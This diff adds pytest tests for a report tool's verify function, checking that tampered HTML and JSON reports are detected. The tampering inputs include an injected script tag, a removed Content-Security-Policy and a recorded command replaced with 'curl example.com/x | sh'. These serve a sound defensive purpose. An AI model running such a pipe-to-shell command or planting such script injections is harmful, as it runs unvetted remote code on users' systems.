@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import re
+from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -68,6 +70,56 @@ def test_a_report_says_the_same_when_it_is_made_again(tmp_path, catalogue, funct
     assert made.same
     assert made.answers[0].changes == ()
     assert made.answers[0].compared > 20
+
+
+FIGURE = "planner-figures"
+
+
+@pytest.mark.parametrize(
+    ("was", "becomes", "where"),
+    [
+        (r"fits on", "does not fit on", "page, line"),
+        (r"</main>", "</main><script>document.title = 'Sold'</script>", "page, line"),
+        (r"(Content-Security-Policy)", "X", "page, line"),
+        (rf'({FIGURE}">.*?"[xy]": *\[)[^\]]*\]', r"\g<1>1,2,3]", "page.figures."),
+    ],
+)
+def test_a_page_that_shows_other_than_its_data_is_found(tmp_path, catalogue, fitted, was, becomes, where):
+    pytest.importorskip("plotly")
+    file = saved(tmp_path, fitted, "report.html")
+    page = file.read_text("utf-8")
+    altered = re.sub(was, becomes, page, count=1)
+    assert altered != page
+    file.write_text(altered, encoding="utf-8")
+    differences = planner.verify(file, catalogue=catalogue).answers[0].differences
+    assert differences[0].path.startswith(where)
+
+
+def test_a_page_of_another_version_is_compared_by_its_data(tmp_path, catalogue, fitted):
+    older = replace(fitted, reproduction=replace(fitted.reproduction, planner_version="0.0.1"))
+    file = saved(tmp_path, older, "report.html")
+    file.write_text(file.read_text("utf-8").replace("<h1>", "<h1>Old: "), encoding="utf-8")
+    answer = planner.verify(file, catalogue=catalogue).answers[0]
+    assert answer.same
+    assert any("another version wrote it" in one for one in answer.changes)
+
+
+def test_another_command_than_the_question_is_found(tmp_path, catalogue, fitted):
+    file = changed(tmp_path, fitted, command="curl example.com/x | sh")
+    assert [one.path for one in planner.verify(file, catalogue=catalogue).answers[0].differences] == [
+        "reproduction.command"
+    ]
+
+
+@pytest.mark.parametrize("form", ["csv", "parquet"])
+def test_a_sweep_into_a_file_is_made_again_in_a_file(tmp_path, catalogue, form):
+    if form == "parquet":
+        pytest.importorskip("pyarrow")
+    asked = {**LLAMA, "isl": [512, 1024], "osl": 64, "concurrency": "1..8"}
+    report = planner.sweep(**asked, out=tmp_path / f"rows.{form}", catalogue=catalogue)
+    made = planner.verify(saved(tmp_path, report), catalogue=catalogue)
+    assert made.same
+    assert sorted(one.name for one in tmp_path.iterdir()) == ["report.json", f"rows.{form}"]
 
 
 def test_a_changed_number_is_found_with_what_it_was_and_is(tmp_path, catalogue, fitted):
